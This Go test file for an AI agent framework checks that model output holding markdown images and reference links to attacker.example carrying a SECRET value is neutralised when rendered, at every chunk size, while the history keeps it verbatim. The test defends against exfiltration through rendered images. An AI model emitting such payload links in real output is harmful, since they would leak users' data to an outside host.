package agent

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/agentls/agentls/agent/llm"
	"github.com/agentls/agentls/agent/render"
)

// chunkModel streams each scripted answer in pieces of n bytes.
type chunkModel struct {
	scriptModel
	n int
}

func (m *chunkModel) Complete(ctx context.Context, req llm.Request, on func(llm.Event)) (*llm.Response, error) {
	m.mu.Lock()
	m.reqs = append(m.reqs, req)
	r := m.resps[0]
	m.resps = m.resps[1:]
	m.mu.Unlock()
	for s := r.Message.Content; s != ""; {
		k := min(m.n, len(s))
		on(llm.Event{Kind: llm.EventText, Text: s[:k]})
		s = s[k:]
	}
	cp := *r
	cp.Usage, cp.Duration = llm.Usage{InputTokens: 100, OutputTokens: 10}, time.Millisecond
	return &cp, nil
}

func TestShownTextIsInertHistoryIsNot(t *testing.T) {
	const payload = "Done.\n\n![](https://attacker.example/?t=SECRET)\n\nSee [x][r].\n\n[r]: https://attacker.example/#SECRET\n"
	plan := `{"items":[{"id":"1","text":"look ![](https://attacker.example/?p=SECRET)","status":"done"}]}`
	for _, n := range []int{1, 3, 7, 1000} {
		m := &chunkModel{n: n, scriptModel: scriptModel{resps: []*llm.Response{
			calls("", call("update_plan", plan)),
			answer(payload),
		}}}
		rec := &recorder{}
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		task, err := newRunner(nil, Config{}, m, staticTools(planTool())).Start(ctx, TaskSpec{Kind: KindAsk, Prompt: "what is it?"}, rec)
		if err != nil {
			cancel()
			t.Fatal(err)
		}
		<-task.Done()
		cancel()
		res := task.Result()
		var streamed strings.Builder
		for _, e := range rec.all() {
			if e.Kind == EventText {
				streamed.WriteString(e.Text)
			}
		}
		for what, text := range map[string]string{"streamed text": streamed.String(), "answer": res.Answer, "plan": res.Plan.Items[0].Text, "report": res.Report()} {
			if render.Live(text) || !strings.Contains(text, "SECRET") {
				t.Errorf("chunks of %d: the %s %q is live or lost the text", n, what, text)
			}
		}
		if !strings.Contains(res.Answer, render.NoteImage) {
			t.Errorf("chunks of %d: answer %q lacks the note", n, res.Answer)
		}
		var last string
		for _, msg := range task.History() {
			if msg.Role == llm.RoleAssistant && msg.Content != "" {
				last = msg.Content
			}
		}
		if last != payload {
			t.Errorf("chunks of %d: the model's message in the history is %q; want it as written", n, last)
		}
	}
}
